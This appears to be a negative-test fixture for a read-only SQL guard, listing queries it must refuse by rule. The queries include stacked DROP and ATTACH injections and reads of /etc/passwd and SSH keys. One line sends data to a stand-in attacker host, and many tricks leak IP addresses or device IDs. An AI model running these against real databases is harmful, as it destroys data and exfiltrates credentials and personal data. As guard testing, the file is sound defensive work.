-- Queries the SQL guard must refuse, each with the rule it must report.
-- Header: "-- @case <id> <rule>"; the query runs until the next header (comments and ';' included).

-- ===== parse_error =====
-- @case empty_string parse_error
-- @case whitespace_only parse_error
   
-- @case only_line_comment parse_error
-- nothing to see here
-- @case only_block_comment parse_error
/* SELECT * FROM consent_events */
-- @case only_semicolons parse_error
;;;
-- @case misspelled_keyword parse_error
SELEC platform FROM consent_events
-- @case select_from_where_garbage parse_error
SELECT FROM WHERE
-- @case unterminated_string parse_error
SELECT 'abc FROM consent_events
-- @case unbalanced_paren parse_error
SELECT count(* FROM consent_events
-- @case closing_parens_garbage parse_error
)))) ((
-- @case dangling_where parse_error
SELECT platform FROM consent_events WHERE
-- @case sqlglot_meta_case_sensitive parse_error
SELECT ip_address /* sqlglot.meta case_sensitive */ FROM consent_events
-- @case sqlglot_meta_on_table parse_error
SELECT count(*) FROM consent_events /* sqlglot.meta case_sensitive */
-- @case comment_swallows_projection parse_error
SELECT -- ip_address
-- @case export_database_unparseable parse_error
EXPORT DATABASE '/tmp/dump'
-- @case delete_in_from_subquery parse_error
SELECT * FROM (DELETE FROM deployments RETURNING *) AS d
-- @case duplicate_alias_in_from parse_error
SELECT a.platform FROM consent_events AS a JOIN deployments AS a ON a.platform = a.platform

-- ===== single_statement =====
-- @case two_selects single_statement
SELECT 1; SELECT 2
-- @case select_then_drop single_statement
SELECT platform FROM consent_events; DROP TABLE consent_events
-- @case select_then_delete_no_space single_statement
SELECT 1;DELETE FROM deployments
-- @case select_then_attach_after_comment single_statement
SELECT 1; -- harmless
ATTACH '/tmp/evil.db' AS evil
-- @case select_then_pragma single_statement
SELECT count(*) FROM deployments; PRAGMA database_list
-- @case block_comment_hides_semicolon single_statement
SELECT 1 /* ; */; INSTALL httpfs
-- @case string_semicolon_then_real single_statement
SELECT ';' AS s; SELECT ip_address FROM consent_events
-- @case select_then_copy single_statement
SELECT 1;
COPY consent_events TO '/tmp/out.csv'
-- @case select_then_set single_statement
SELECT 1; SET enable_external_access = true
-- @case select_then_select_pii single_statement
SELECT count(*) FROM consent_events; SELECT ip_address FROM consent_events

-- ===== read_only =====
-- @case drop_table read_only
DROP TABLE consent_events
-- @case drop_view read_only
DROP VIEW IF EXISTS v
-- @case delete_rows read_only
DELETE FROM consent_events WHERE true
-- @case update_rows read_only
UPDATE deployments SET summary = 'x'
-- @case insert_values read_only
INSERT INTO deployments VALUES ('d', TIMESTAMP '2026-01-01', 'ios', 'EU', 'x')
-- @case insert_select read_only
INSERT INTO deployments SELECT * FROM deployments
-- @case create_table_as read_only
CREATE TABLE leak AS SELECT ip_address FROM consent_events
-- @case create_or_replace_table read_only
CREATE OR REPLACE TABLE deployments AS SELECT 1 AS x
-- @case create_temp_table read_only
CREATE TEMP TABLE t AS SELECT 1 AS x
-- @case create_view read_only
CREATE VIEW v AS SELECT * FROM consent_events
-- @case create_macro read_only
CREATE MACRO leak(x) AS x
-- @case create_sequence read_only
CREATE SEQUENCE s
-- @case create_index read_only
CREATE INDEX i ON consent_events (ip_address)
-- @case alter_table_add read_only
ALTER TABLE deployments ADD COLUMN pwned VARCHAR
-- @case alter_table_rename read_only
ALTER TABLE deployments RENAME TO old_deployments
-- @case truncate_table read_only
TRUNCATE TABLE deployments
-- @case merge_into read_only
MERGE INTO deployments AS d USING deployments AS s ON d.deploy_id = s.deploy_id WHEN MATCHED THEN DELETE
-- @case pragma_database_list read_only
PRAGMA database_list
-- @case pragma_table_info read_only
PRAGMA table_info('consent_events')
-- @case set_memory_limit read_only
SET memory_limit = '1GB'
-- @case set_external_access read_only
SET enable_external_access = true
-- @case set_variable read_only
SET VARIABLE secret = 42
-- @case reset_setting read_only
RESET memory_limit
-- @case use_database read_only
USE other_db
-- @case attach_database read_only
ATTACH '/tmp/evil.db' AS evil
-- @case attach_sqlite read_only
ATTACH 'data.sqlite' AS s (TYPE sqlite)
-- @case attach_postgres read_only
ATTACH 'dbname=prod host=10.0.0.1' AS pg (TYPE postgres)
-- @case detach_database read_only
DETACH evil
-- @case copy_to_file read_only
COPY consent_events TO '/tmp/out.csv' (HEADER, DELIMITER ',')
-- @case copy_query_to_file read_only
COPY (SELECT ip_address FROM consent_events) TO '/tmp/ips.parquet' (FORMAT parquet)
-- @case copy_from_file read_only
COPY deployments FROM '/tmp/evil.csv'
-- @case import_database parse_error
IMPORT DATABASE '/tmp/dump'
-- @case install_httpfs read_only
INSTALL httpfs
-- @case force_install read_only
FORCE INSTALL httpfs
-- @case load_httpfs read_only
LOAD httpfs
-- @case call_pragma read_only
CALL pragma_version()
-- @case checkpoint read_only
CHECKPOINT
-- @case vacuum read_only
VACUUM
-- @case begin_transaction read_only
BEGIN TRANSACTION
-- @case commit read_only
COMMIT
-- @case rollback read_only
ROLLBACK
-- @case describe_table read_only
DESCRIBE consent_events
-- @case show_tables read_only
SHOW TABLES
-- @case summarize_table read_only
SUMMARIZE consent_events
-- @case explain_select read_only
EXPLAIN SELECT ip_address FROM consent_events
-- @case grant_select read_only
GRANT SELECT ON consent_events TO public
-- @case create_secret parse_error
CREATE SECRET (TYPE s3, KEY_ID 'x', SECRET 'y')
-- @case values_root read_only
VALUES (1), (2)
-- @case pivot_statement_root read_only
PIVOT consent_events ON platform USING count(*)
-- @case cte_delete read_only
WITH gone AS (DELETE FROM deployments RETURNING deploy_id) SELECT count(*) FROM gone
-- @case cte_insert read_only
WITH ins AS (INSERT INTO deployments VALUES ('d', NULL, NULL, NULL, NULL) RETURNING *) SELECT * FROM ins
-- @case cte_update read_only
WITH upd AS (UPDATE deployments SET summary = 'x' RETURNING deploy_id) SELECT * FROM upd
-- @case select_into_table read_only
SELECT ip_address INTO leaked FROM consent_events
-- @case select_for_update read_only
SELECT platform FROM consent_events FOR UPDATE
-- @case comment_on_table read_only
COMMENT ON TABLE deployments IS 'pwned'
-- @case analyze read_only
ANALYZE
-- @case uppercase_lowercase_drop read_only
dRoP tAbLe consent_events
-- @case drop_after_block_comment read_only
/* SELECT */ DROP TABLE deployments
-- @case describe_in_subquery read_only
SELECT * FROM (DESCRIBE consent_events)
-- @case summarize_in_subquery read_only
SELECT * FROM (SUMMARIZE consent_events)
-- @case prepare_statement read_only
PREPARE p AS SELECT ip_address FROM consent_events
-- @case execute_prepared read_only
EXECUTE p
-- @case semicolon_then_comment_then_drop single_statement
SELECT 1; -- ok
; DROP TABLE deployments

-- ===== forbidden_function =====
-- @case read_csv_from forbidden_function
SELECT * FROM read_csv('/etc/passwd')
-- @case read_csv_auto_from forbidden_function
SELECT * FROM read_csv_auto('/tmp/x.csv')
-- @case read_parquet_from forbidden_function
SELECT * FROM read_parquet('s3://bucket/x.parquet')
-- @case parquet_scan_from forbidden_function
SELECT * FROM parquet_scan('/tmp/*.parquet')
-- @case read_json_from forbidden_function
SELECT * FROM read_json('/tmp/x.json')
-- @case read_json_auto_from forbidden_function
SELECT * FROM read_json_auto('https://evil.example/x.json')
-- @case read_ndjson_from forbidden_function
SELECT * FROM read_ndjson_auto('/tmp/x.ndjson')
-- @case read_text_from forbidden_function
SELECT * FROM read_text('/etc/hostname')
-- @case read_blob_from forbidden_function
SELECT * FROM read_blob('/root/.ssh/id_rsa')
-- @case glob_from forbidden_function
SELECT * FROM glob('/home/*')
-- @case sniff_csv_from forbidden_function
SELECT * FROM sniff_csv('/tmp/x.csv')
-- @case parquet_metadata_from forbidden_function
SELECT * FROM parquet_metadata('/tmp/x.parquet')
-- @case sqlite_scan_from forbidden_function
SELECT * FROM sqlite_scan('/tmp/x.db', 'users')
-- @case postgres_scan_from forbidden_function
SELECT * FROM postgres_scan('host=10.0.0.1', 'public', 'users')
-- @case iceberg_scan_from forbidden_function
SELECT * FROM iceberg_scan('s3://lake/table')
-- @case delta_scan_from forbidden_function
SELECT * FROM delta_scan('/lake/t')
-- @case duckdb_settings_from forbidden_function
SELECT * FROM duckdb_settings()
-- @case duckdb_tables_from forbidden_function
SELECT * FROM duckdb_tables()
-- @case duckdb_secrets_from forbidden_function
SELECT * FROM duckdb_secrets()
-- @case duckdb_extensions_from forbidden_function
SELECT * FROM duckdb_extensions()
-- @case pragma_version_from forbidden_function
SELECT * FROM pragma_version()
-- @case query_table_function forbidden_function
SELECT * FROM query('SELECT ip_address FROM consent_events')
-- @case query_table_by_name forbidden_function
SELECT * FROM query_table('consent_events')
-- @case read_csv_scalar forbidden_function
SELECT read_csv('/etc/passwd') AS x
-- @case read_text_in_where forbidden_function
SELECT count(*) FROM consent_events WHERE platform IN (SELECT content FROM read_text('/tmp/p.txt'))
-- @case read_csv_in_cte forbidden_function
WITH x AS (SELECT * FROM read_csv('/tmp/x.csv')) SELECT count(*) FROM x
-- @case read_parquet_in_join forbidden_function
SELECT count(*) FROM consent_events AS e JOIN read_parquet('/tmp/x.parquet') AS p ON p.id = e.user_id
-- @case read_csv_in_scalar_subquery forbidden_function
SELECT (SELECT count(*) FROM read_csv('/tmp/x.csv')) AS n
-- @case glob_in_lateral forbidden_function
SELECT count(*) FROM consent_events, LATERAL (SELECT * FROM glob('/tmp/*')) AS g
-- @case read_csv_uppercase forbidden_function
SELECT * FROM READ_CSV('/etc/passwd')
-- @case read_csv_mixed_case forbidden_function
SELECT * FROM Read_Csv_Auto('/etc/passwd')
-- @case read_csv_quoted_name forbidden_function
SELECT "read_csv"('/etc/passwd') AS x
-- @case read_csv_schema_qualified forbidden_function
SELECT * FROM main.read_csv('/etc/passwd')
-- @case read_csv_comment_split forbidden_function
SELECT * FROM read_csv/* hi */('/etc/passwd')
-- @case read_csv_in_union forbidden_function
SELECT platform FROM consent_events UNION ALL SELECT column0 FROM read_csv('/tmp/x.csv')
-- @case getenv_scalar forbidden_function
SELECT getenv('HOME') AS home
-- @case current_setting_scalar forbidden_function
SELECT current_setting('memory_limit') AS m
-- @case set_config_scalar forbidden_function
SELECT set_config('search_path', 'evil', false)
-- @case pg_read_file forbidden_function
SELECT pg_read_file('/etc/passwd')
-- @case pg_read_binary_file forbidden_function
SELECT pg_read_binary_file('/etc/passwd')
-- @case pg_ls_dir forbidden_function
SELECT * FROM pg_ls_dir('/')
-- @case lo_import forbidden_function
SELECT lo_import('/etc/passwd')
-- @case lo_export forbidden_function
SELECT lo_export(1, '/tmp/x')
-- @case dblink forbidden_function
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)
-- @case dblink_exec forbidden_function
SELECT dblink_exec('host=evil', 'DROP TABLE x')
-- @case load_extension forbidden_function
SELECT load_extension('/tmp/evil.so')
-- @case which_secret forbidden_function
SELECT which_secret('s3://bucket/x', 's3')
-- @case sleep_ms forbidden_function
SELECT sleep_ms(100000)
-- @case pg_sleep forbidden_function
SELECT pg_sleep(100)
-- @case setseed forbidden_function
SELECT setseed(0.5)
-- @case nextval forbidden_function
SELECT nextval('seq')
-- @case getvariable forbidden_function
SELECT getvariable('secret')
-- @case error_function_leak forbidden_function
SELECT count(*) FROM consent_events WHERE error(ip_address) IS NULL
-- @case version_function forbidden_function
SELECT version()
-- @case current_user forbidden_function
SELECT current_user
-- @case current_database forbidden_function
SELECT current_database()
-- @case current_schema forbidden_function
SELECT current_schema()
-- @case unknown_udf forbidden_function
SELECT exfiltrate(platform) FROM consent_events
-- @case unknown_udf_in_where forbidden_function
SELECT count(*) FROM consent_events WHERE my_udf(ip_address)
-- @case columns_regex forbidden_function
SELECT COLUMNS('ip.*') FROM consent_events
-- @case columns_star forbidden_function
SELECT COLUMNS(*) FROM consent_events
-- @case columns_lambda forbidden_function
SELECT COLUMNS(c -> c LIKE '%address%') FROM consent_events
-- @case http_get forbidden_function
SELECT http_get('https://evil.example/?q=' || platform) FROM consent_events
-- @case json_table_function forbidden_function
SELECT * FROM json_each('{"a": 1}')
-- @case generate_series_ok_but_read_inside forbidden_function
SELECT * FROM generate_series(1, (SELECT count(*) FROM read_csv('/tmp/x.csv')))
-- @case table_function_upper forbidden_function
SELECT * FROM UPPER('x')

-- ===== file_access =====
-- @case string_literal_csv_table file_access
SELECT * FROM 'consent_events.csv'
-- @case string_literal_abs_path file_access
SELECT * FROM '/etc/passwd'
-- @case string_literal_https file_access
SELECT * FROM 'https://evil.example/data.parquet'
-- @case string_literal_s3 file_access
SELECT count(*) FROM 's3://bucket/events/*.parquet'
-- @case double_quoted_path file_access
SELECT count(*) FROM "data/consent_events.csv"
-- @case home_dir_path file_access
SELECT * FROM '~/.ssh/id_rsa'
-- @case glob_pattern_table file_access
SELECT count(*) FROM '*.csv'
-- @case file_in_join file_access
SELECT count(*) FROM consent_events AS e JOIN 'users.json' AS u ON u.id = e.user_id
-- @case file_in_cte file_access
WITH f AS (SELECT * FROM 'dump.parquet') SELECT count(*) FROM f
-- @case file_in_where_subquery file_access
SELECT count(*) FROM consent_events WHERE user_id IN (SELECT id FROM 'vip.csv')
-- @case windows_path file_access
SELECT * FROM 'C:\secrets\x.csv'

-- ===== table_not_allowed =====
-- @case information_schema_tables table_not_allowed
SELECT * FROM information_schema.tables
-- @case information_schema_columns table_not_allowed
SELECT column_name FROM information_schema.columns WHERE table_name = 'consent_events'
-- @case pg_catalog_tables table_not_allowed
SELECT * FROM pg_catalog.pg_tables
-- @case pg_settings table_not_allowed
SELECT * FROM pg_settings
-- @case sqlite_master table_not_allowed
SELECT * FROM sqlite_master
-- @case duckdb_settings_as_table table_not_allowed
SELECT * FROM duckdb_settings
-- @case schema_qualified_catalog_table table_not_allowed
SELECT count(*) FROM main.consent_events
-- @case catalog_qualified_table table_not_allowed
SELECT count(*) FROM memory.main.consent_events
-- @case attached_db_table table_not_allowed
SELECT * FROM evil.main.users
-- @case dotted_file_name table_not_allowed
SELECT * FROM users.csv
-- @case unknown_table table_not_allowed
SELECT * FROM users
-- @case typo_table table_not_allowed
SELECT count(*) FROM consent_event
-- @case unknown_table_in_join table_not_allowed
SELECT count(*) FROM consent_events AS e JOIN secrets AS s ON s.user_id = e.user_id
-- @case unknown_table_in_cte table_not_allowed
WITH s AS (SELECT * FROM secrets) SELECT count(*) FROM s
-- @case unknown_table_in_scalar_subquery table_not_allowed
SELECT (SELECT count(*) FROM api_keys) AS n
-- @case unknown_table_in_where_in table_not_allowed
SELECT count(*) FROM consent_events WHERE user_id IN (SELECT user_id FROM admins)
-- @case unknown_table_in_union table_not_allowed
SELECT platform FROM consent_events UNION SELECT name FROM users
-- @case unknown_table_in_exists table_not_allowed
SELECT count(*) FROM consent_events WHERE EXISTS (SELECT 1 FROM passwords)
-- @case cte_name_out_of_scope table_not_allowed
SELECT count(*) FROM (WITH secrets AS (SELECT 1 AS a) SELECT a FROM secrets) AS s, secrets
-- @case temp_schema_table table_not_allowed
SELECT * FROM temp.main.scratch
-- @case system_schema table_not_allowed
SELECT * FROM system.main.duckdb_settings
-- @case quoted_qualified_table table_not_allowed
SELECT count(*) FROM "information_schema"."tables"
-- @case placeholder_as_table table_not_allowed
SELECT count(*) FROM ?
-- @case parameter_as_table table_not_allowed
SELECT count(*) FROM $1
-- @case backup_table table_not_allowed
SELECT * FROM deployments_backup
-- @case cte_shadow_then_real_qualified table_not_allowed
WITH consent_events AS (SELECT 1 AS x) SELECT * FROM main.consent_events

-- ===== limit_not_literal =====
-- @case limit_subquery limit_not_literal
SELECT platform FROM consent_events LIMIT (SELECT count(*) FROM consent_events)
-- @case offset_subquery limit_not_literal
SELECT platform FROM consent_events LIMIT 10 OFFSET (SELECT 1)
-- @case limit_percent limit_not_literal
SELECT platform FROM consent_events LIMIT 50%
-- @case limit_negative limit_not_literal
SELECT platform FROM consent_events LIMIT -1
-- @case limit_expression limit_not_literal
SELECT platform FROM consent_events LIMIT 5 + 5
-- @case limit_decimal limit_not_literal
SELECT platform FROM consent_events LIMIT 1.5
-- @case limit_string limit_not_literal
SELECT platform FROM consent_events LIMIT '10'
-- @case limit_null limit_not_literal
SELECT platform FROM consent_events LIMIT NULL
-- @case limit_function limit_not_literal
SELECT platform FROM consent_events LIMIT abs(-5)
-- @case inner_limit_subquery limit_not_literal
SELECT count(*) FROM (SELECT platform FROM consent_events LIMIT (SELECT 100)) AS t
-- @case union_limit_subquery limit_not_literal
SELECT platform FROM consent_events UNION SELECT platform FROM deployments LIMIT (SELECT 5)

-- ===== unknown_column =====
-- @case typo_column unknown_column
SELECT plaform, count(*) FROM consent_events GROUP BY 1
-- @case column_from_other_table unknown_column
SELECT deploy_id FROM consent_events
-- @case qualified_typo unknown_column
SELECT e.choise FROM consent_events AS e
-- @case alias_not_in_scope unknown_column
SELECT x.platform FROM consent_events AS e
-- @case ambiguous_join_column unknown_column
SELECT platform FROM consent_events JOIN deployments ON true
-- @case where_unknown unknown_column
SELECT count(*) FROM consent_events WHERE password = 'x'
-- @case group_by_unknown unknown_column
SELECT count(*) FROM consent_events GROUP BY email
-- @case join_on_unknown unknown_column
SELECT count(*) FROM consent_events AS e JOIN deployments AS d ON d.user_id = e.user_id
-- @case having_unknown unknown_column
SELECT platform FROM consent_events GROUP BY platform HAVING max(salary) > 1
-- @case cte_missing_column unknown_column
WITH c AS (SELECT platform FROM consent_events) SELECT region FROM c
-- @case derived_missing_column unknown_column
SELECT t.ip_address FROM (SELECT platform FROM consent_events) AS t
-- @case quoted_with_space unknown_column
SELECT "platform " FROM consent_events
-- @case order_by_unknown unknown_column
SELECT platform FROM consent_events ORDER BY secret_rank
-- @case unknown_in_window unknown_column
SELECT row_number() OVER (PARTITION BY tenant_id ORDER BY event_time) AS rn FROM consent_events
-- @case unknown_in_scalar_subquery unknown_column
SELECT (SELECT max(api_key) FROM deployments) AS k
-- @case qualify_unknown unknown_column
SELECT platform FROM consent_events QUALIFY secret_score = 1
-- @case having_qualified_unknown unknown_column
SELECT platform FROM consent_events AS e GROUP BY platform HAVING max(e.salary) > 1

-- ===== pii_exposed =====
-- @case raw_ip pii_exposed
SELECT ip_address FROM consent_events
-- @case raw_device pii_exposed
SELECT device_id, count(*) AS n FROM consent_events GROUP BY device_id
-- @case quoted_exact pii_exposed
SELECT "ip_address" FROM consent_events
-- @case quoted_mixed_case pii_exposed
SELECT "IP_Address" FROM consent_events
-- @case unquoted_upper pii_exposed
SELECT IP_ADDRESS FROM CONSENT_EVENTS
-- @case qualified_with_alias pii_exposed
SELECT E.Ip_Address FROM consent_events AS e
-- @case comment_inside_projection pii_exposed
SELECT /* platform */ ip_address -- , platform
FROM consent_events
-- @case alias_masquerade pii_exposed
SELECT ip_address AS platform FROM consent_events
-- @case alias_innocent pii_exposed
SELECT device_id AS n FROM consent_events
-- @case select_star pii_exposed
SELECT * FROM consent_events
-- @case select_table_star pii_exposed
SELECT e.* FROM consent_events AS e
-- @case from_first_star pii_exposed
FROM consent_events
-- @case star_exclude_non_pii pii_exposed
SELECT * EXCLUDE (platform) FROM consent_events
-- @case star_exclude_one_pii pii_exposed
SELECT * EXCLUDE (ip_address) FROM consent_events
-- @case star_replace_hash pii_exposed
SELECT * EXCLUDE (device_id) REPLACE (md5(ip_address) AS ip_address) FROM consent_events
-- @case star_rename pii_exposed
SELECT * EXCLUDE (device_id) RENAME (ip_address AS addr) FROM consent_events
-- @case star_experiments pii_exposed
SELECT * FROM experiment_assignments
-- @case star_join pii_exposed
SELECT * FROM deployments AS d JOIN consent_events AS e ON e.platform = d.platform
-- @case cast_varchar pii_exposed
SELECT CAST(ip_address AS VARCHAR) AS x FROM consent_events
-- @case cast_colon pii_exposed
SELECT ip_address::TEXT FROM consent_events
-- @case concat_operator pii_exposed
SELECT 'ip=' || ip_address AS x FROM consent_events
-- @case concat_function pii_exposed
SELECT concat(platform, ip_address) AS x FROM consent_events
-- @case concat_ws pii_exposed
SELECT concat_ws('-', device_id, platform) AS x FROM consent_events
-- @case upper_ip pii_exposed
SELECT upper(ip_address) FROM consent_events
-- @case substring_ip pii_exposed
SELECT substring(ip_address, 1, 6) AS prefix FROM consent_events
-- @case split_part_octet pii_exposed
SELECT split_part(ip_address, '.', 4) AS octet FROM consent_events
-- @case left_device pii_exposed
SELECT left(device_id, 3) FROM consent_events
-- @case replace_ip pii_exposed
SELECT replace(ip_address, '.', '-') FROM consent_events
-- @case reverse_ip pii_exposed
SELECT reverse(ip_address) FROM consent_events
-- @case regexp_extract_ip pii_exposed
SELECT regexp_extract(ip_address, '([0-9]+)$') FROM consent_events
-- @case md5_ip pii_exposed
SELECT md5(ip_address) FROM consent_events
-- @case sha256_ip pii_exposed
SELECT sha256(ip_address) FROM consent_events
-- @case hash_device pii_exposed
SELECT hash(device_id) FROM consent_events
-- @case base64_ip pii_exposed
SELECT to_base64(encode(ip_address)) FROM consent_events
-- @case length_ip pii_exposed
SELECT length(ip_address) FROM consent_events
-- @case coalesce_ip pii_exposed
SELECT coalesce(ip_address, 'none') FROM consent_events
-- @case nullif_ip pii_exposed
SELECT nullif(ip_address, '') FROM consent_events
-- @case greatest_ip pii_exposed
SELECT greatest(ip_address, '') FROM consent_events
-- @case case_returns_ip pii_exposed
SELECT CASE WHEN platform = 'ios' THEN ip_address ELSE 'n/a' END AS x FROM consent_events
-- @case case_bit_per_row pii_exposed
SELECT CASE WHEN ip_address LIKE '10.0.1.%' THEN 1 ELSE 0 END AS in_subnet FROM consent_events
-- @case predicate_as_column pii_exposed
SELECT ip_address = '10.0.1.1' AS is_target FROM consent_events
-- @case is_null_as_column pii_exposed
SELECT device_id IS NULL AS missing FROM consent_events
-- @case struct_literal pii_exposed
SELECT {'ip': ip_address} AS s FROM consent_events
-- @case struct_pack pii_exposed
SELECT struct_pack(ip := ip_address, p := platform) AS s FROM consent_events
-- @case list_literal pii_exposed
SELECT [ip_address, platform] AS l FROM consent_events
-- @case list_value pii_exposed
SELECT list_value(device_id) FROM consent_events
-- @case row_constructor pii_exposed
SELECT row(ip_address, platform) FROM consent_events
-- @case to_json_column pii_exposed
SELECT to_json(ip_address) FROM consent_events
-- @case to_json_struct pii_exposed
SELECT to_json({'d': device_id}) FROM consent_events
-- @case json_object pii_exposed
SELECT json_object('ip', ip_address) FROM consent_events
-- @case map_constructor pii_exposed
SELECT map([platform], [ip_address]) FROM consent_events
-- @case array_to_string pii_exposed
SELECT array_to_string([ip_address], ',') FROM consent_events
-- @case list_transform_lambda pii_exposed
SELECT list_transform([ip_address], lambda x: upper(x)) FROM consent_events
-- @case format_function pii_exposed
SELECT format('{}', ip_address) FROM consent_events
-- @case printf_function pii_exposed
SELECT printf('%s', device_id) FROM consent_events
-- @case min_ip pii_exposed
SELECT min(ip_address) FROM consent_events
-- @case max_device_by_platform pii_exposed
SELECT platform, max(device_id) FROM consent_events GROUP BY platform
-- @case any_value_ip pii_exposed
SELECT platform, any_value(ip_address) FROM consent_events GROUP BY platform
-- @case first_ip pii_exposed
SELECT first(ip_address) FROM consent_events
-- @case arg_max_ip pii_exposed
SELECT arg_max(ip_address, event_time) FROM consent_events
-- @case string_agg_ip pii_exposed
SELECT platform, string_agg(ip_address, ',') FROM consent_events GROUP BY platform
-- @case list_agg_device pii_exposed
SELECT list(device_id) FROM consent_events
-- @case array_agg_distinct_ip pii_exposed
SELECT array_agg(DISTINCT ip_address) FROM consent_events
-- @case histogram_ip pii_exposed
SELECT histogram(ip_address) FROM consent_events
-- @case mode_ip pii_exposed
SELECT mode(ip_address) FROM consent_events
-- @case sum_length_ip pii_exposed
SELECT sum(length(ip_address)) FROM consent_events
-- @case sum_case_on_ip pii_exposed
SELECT sum(CASE WHEN ip_address LIKE '10.%' THEN 1 ELSE 0 END) AS n FROM consent_events
-- @case first_value_window pii_exposed
SELECT first_value(ip_address) OVER (PARTITION BY platform ORDER BY event_time) FROM consent_events
-- @case lag_window pii_exposed
SELECT lag(device_id) OVER (ORDER BY event_time) FROM consent_events
-- @case count_partition_by_pii pii_exposed
SELECT count(*) OVER (PARTITION BY ip_address) AS per_ip FROM consent_events
-- @case row_number_order_by_pii pii_exposed
SELECT row_number() OVER (ORDER BY ip_address) AS rk FROM consent_events
-- @case union_branch pii_exposed
SELECT platform FROM consent_events UNION ALL SELECT ip_address FROM consent_events
-- @case union_first_branch pii_exposed
SELECT device_id FROM consent_events UNION SELECT platform FROM deployments
-- @case union_third_branch pii_exposed
SELECT platform FROM consent_events UNION SELECT region FROM deployments UNION SELECT ip_address FROM consent_events
-- @case intersect_branch pii_exposed
SELECT ip_address FROM consent_events INTERSECT SELECT '10.0.1.1'
-- @case except_branch pii_exposed
SELECT device_id FROM consent_events EXCEPT SELECT 'd1'
-- @case union_inside_cte_counted pii_exposed
WITH u AS (SELECT ip_address FROM consent_events UNION SELECT device_id FROM consent_events) SELECT count(*) FROM u
-- @case union_in_where_subquery pii_exposed
SELECT count(*) FROM consent_events WHERE platform IN (SELECT platform FROM deployments UNION SELECT ip_address FROM consent_events)
-- @case cte_reexposes pii_exposed
WITH raw AS (SELECT ip_address AS addr FROM consent_events) SELECT addr FROM raw
-- @case cte_star_reexposes pii_exposed
WITH raw AS (SELECT * FROM consent_events) SELECT * FROM raw
-- @case cte_chain_reexposes pii_exposed
WITH a AS (SELECT ip_address AS x FROM consent_events), b AS (SELECT x AS y FROM a) SELECT y FROM b
-- @case cte_transformed_outside pii_exposed
WITH a AS (SELECT device_id FROM consent_events) SELECT md5(device_id) FROM a
-- @case derived_table_reexposes pii_exposed
SELECT t.ip FROM (SELECT ip_address AS ip FROM consent_events) AS t
-- @case derived_table_column_alias pii_exposed
SELECT t.x FROM (SELECT ip_address FROM consent_events) AS t(x)
-- @case derived_star pii_exposed
SELECT * FROM (SELECT platform, device_id FROM consent_events) AS t
-- @case nested_three_levels pii_exposed
SELECT c FROM (SELECT b AS c FROM (SELECT a AS b FROM (SELECT ip_address AS a FROM consent_events) AS t1) AS t2) AS t3
-- @case scalar_subquery_max pii_exposed
SELECT (SELECT max(ip_address) FROM consent_events) AS latest_ip
-- @case scalar_subquery_correlated pii_exposed
SELECT (SELECT c2.device_id FROM consent_events AS c2 WHERE c2.user_id = c.user_id LIMIT 1) AS d FROM consent_events AS c
-- @case exists_as_column pii_exposed
SELECT EXISTS (SELECT ip_address FROM consent_events WHERE ip_address = '10.0.1.1') AS hit
-- @case struct_field_access pii_exposed
SELECT s.ip FROM (SELECT {'ip': ip_address} AS s FROM consent_events) AS t
-- @case whole_row_reference pii_exposed
SELECT e FROM consent_events AS e
-- @case whole_row_to_json pii_exposed
SELECT to_json(e) FROM consent_events AS e
-- @case lateral_reexposes pii_exposed
SELECT l.x FROM consent_events AS e, LATERAL (SELECT e.ip_address AS x) AS l
-- @case unnest_from_reexposes pii_exposed
SELECT u.v FROM consent_events AS e CROSS JOIN unnest([e.device_id]) AS u(v)
-- @case unnest_in_select pii_exposed
SELECT unnest([ip_address, platform]) FROM consent_events
-- @case join_using_pii_key_output pii_exposed
SELECT user_id FROM consent_events JOIN experiment_assignments USING (user_id)
-- @case experiment_user_raw pii_exposed
SELECT user_id, arm FROM experiment_assignments
-- @case experiment_user_via_join pii_exposed
SELECT a.user_id FROM consent_events AS e JOIN experiment_assignments AS a ON a.user_id = e.user_id
-- @case group_by_all_with_pii pii_exposed
SELECT ip_address, count(*) FROM consent_events GROUP BY ALL
-- @case distinct_pii pii_exposed
SELECT DISTINCT device_id FROM consent_events
-- @case order_and_output pii_exposed
SELECT ip_address FROM consent_events ORDER BY event_time LIMIT 1
-- @case where_false_still_output pii_exposed
SELECT ip_address FROM consent_events WHERE false
-- @case pii_behind_count_name pii_exposed
SELECT max(ip_address) AS count FROM consent_events
-- @case pii_inside_count_then_concat pii_exposed
SELECT count(*) || ip_address AS x FROM consent_events GROUP BY ip_address
-- @case window_count_but_pii_outside pii_exposed
SELECT count(device_id) OVER () || device_id AS x FROM consent_events
-- @case filter_clause_on_max pii_exposed
SELECT max(ip_address) FILTER (WHERE platform = 'ios') AS x FROM consent_events
-- @case qualify_but_output pii_exposed
SELECT device_id FROM consent_events QUALIFY row_number() OVER (PARTITION BY platform ORDER BY event_time) = 1
-- @case union_inside_subquery_in_from pii_exposed
SELECT count(*) FROM (SELECT platform FROM deployments UNION ALL SELECT device_id FROM consent_events) AS t
-- @case recursive_cte_carrying_pii pii_exposed
WITH RECURSIVE r AS (SELECT ip_address AS v, 1 AS n FROM consent_events UNION ALL SELECT v, n + 1 FROM r WHERE n < 2) SELECT count(*) FROM r
-- @case star_inside_struct_pack pii_exposed
SELECT struct_pack(*) FROM consent_events
-- @case values_join_output_pii pii_exposed
SELECT v.label, e.ip_address FROM consent_events AS e JOIN (VALUES ('ios', 'i')) AS v(p, label) ON v.p = e.platform
-- @case generate_series_from_pii pii_exposed
SELECT g.x FROM consent_events AS e, generate_series(1, length(e.ip_address)) AS g(x)
-- @case percentile_disc_within_group_pii pii_exposed
SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY ip_address) AS median_ip FROM consent_events
-- @case mode_within_group_pii pii_exposed
SELECT mode() WITHIN GROUP (ORDER BY device_id) FROM consent_events
-- @case string_agg_ordered_by_pii pii_exposed
SELECT string_agg(platform, ',' ORDER BY ip_address) FROM consent_events
-- @case star_like_pattern pii_exposed
SELECT * LIKE 'ip%' FROM consent_events
-- @case correlated_scalar_reexposes_outer pii_exposed
SELECT (SELECT e.ip_address) AS x FROM consent_events AS e
-- @case correlated_values_reexposes pii_exposed
SELECT v.x FROM consent_events AS e, (VALUES (e.ip_address)) AS v(x)
-- @case cte_column_list_reexposes pii_exposed
WITH c(x) AS (SELECT ip_address FROM consent_events) SELECT x FROM c
-- @case cte_reference_column_list pii_exposed
WITH c AS (SELECT ip_address, platform FROM consent_events) SELECT t.p FROM c AS t(p, q)
-- @case grouping_of_pii pii_exposed
SELECT GROUPING(ip_address) AS g, count(*) AS n FROM consent_events GROUP BY ROLLUP (ip_address)
-- @case lambda_captures_pii pii_exposed
SELECT list_transform([1, 2], lambda x: ip_address) FROM consent_events
